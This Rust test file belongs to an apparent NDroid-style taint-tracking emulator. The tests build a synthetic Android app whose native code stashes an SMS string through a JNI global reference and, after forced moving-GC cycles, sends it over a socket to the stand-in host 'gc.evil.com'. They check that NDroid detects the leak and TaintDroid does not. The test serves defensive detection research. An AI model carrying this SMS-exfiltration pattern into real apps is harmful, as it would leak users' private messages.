//! Design decision D4: native-side taints are keyed by **indirect
//! reference**, so a moving GC between JNI calls cannot stale them
//! (§II-A / §V-B of the paper).

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::DexInsn;
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind, Taint};
use ndroid::jni::dvm_addr;
use ndroid::libc::libc_addr;

/// An app whose native code stashes a *global reference* to a tainted
/// string in step 1 and exfiltrates it in step 2 — with a full moving
/// GC cycle between the two steps (driven from the test).
fn build_two_phase_app() -> ndroid::apps::App {
    let mut b = AppBuilder::new("gc-two-phase", "global ref survives moving GC");
    let c = b.class("Lapp/Gc;");
    let ref_slot = b.data_buffer(8);

    // void stash(String s): g = NewGlobalRef(s)
    let stash = b.asm.label();
    b.asm.bind(stash).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    b.asm.call_abs(dvm_addr("NewGlobalRef"));
    b.asm.ldr_const(Reg::R1, ref_slot);
    b.asm.str(Reg::R0, Reg::R1, 0);
    b.asm.pop(RegList::of(&[Reg::PC]));
    let stash_m = b.native_method(c, "stash", "VL", true, stash);

    // void leak(): chars = GetStringUTFChars(g); socket; connect; send
    let leak = b.asm.label();
    b.asm.bind(leak).unwrap();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.ldr_const(Reg::R0, ref_slot);
    b.asm.ldr(Reg::R0, Reg::R0, 0);
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    let dest = b.data_cstr("gc.evil.com");
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let leak_m = b.native_method(c, "leak", "V", true, leak);

    let sms = b
        .program
        .find_method_by_name("Landroid/provider/SmsProvider;", "queryLastMessage")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "phase1",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: sms,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: stash_m,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.method(
        c,
        MethodDef::new(
            "phase2",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: leak_m,
                    args: vec![],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    b.finish("Lapp/Gc;", "phase1").unwrap()
}

#[test]
fn taint_survives_moving_gc_between_jni_calls() {
    let mut sys = build_two_phase_app().launch(Mode::NDroid);
    sys.run_java("Lapp/Gc;", "phase1", &[]).unwrap();

    // Moving GC: every object's direct address changes.
    let before = sys.dvm.heap.gc_cycles;
    sys.force_gc();
    sys.force_gc();
    sys.force_gc();
    assert_eq!(sys.dvm.heap.gc_cycles, before + 3);

    sys.run_java("Lapp/Gc;", "phase2", &[]).unwrap();
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1, "leak detected across GC cycles");
    assert!(leaks[0].taint.contains(Taint::SMS));
    assert_eq!(leaks[0].dest, "gc.evil.com");
    assert!(String::from_utf8_lossy(&leaks[0].data).contains("secret meeting"));
}

#[test]
fn taintdroid_misses_the_same_flow() {
    let mut sys = build_two_phase_app().launch(Mode::TaintDroid);
    sys.run_java("Lapp/Gc;", "phase1", &[]).unwrap();
    sys.force_gc();
    sys.run_java("Lapp/Gc;", "phase2", &[]).unwrap();
    assert!(sys.leaks().is_empty());
    assert_eq!(sys.report().network_log.len(), 1, "but the SMS left anyway");
}

#[test]
fn direct_addresses_actually_move() {
    let mut sys = build_two_phase_app().launch(Mode::NDroid);
    sys.run_java("Lapp/Gc;", "phase1", &[]).unwrap();
    // Find the stashed object via the global ref table.
    let roots = sys.dvm.refs.all_objects();
    assert!(!roots.is_empty());
    let obj = roots[0];
    let addr_before = sys.dvm.heap.direct_addr(obj).unwrap();
    sys.force_gc();
    let addr_after = sys.dvm.heap.direct_addr(obj).unwrap();
    assert_ne!(addr_before, addr_after, "the GC is really a moving GC");
}
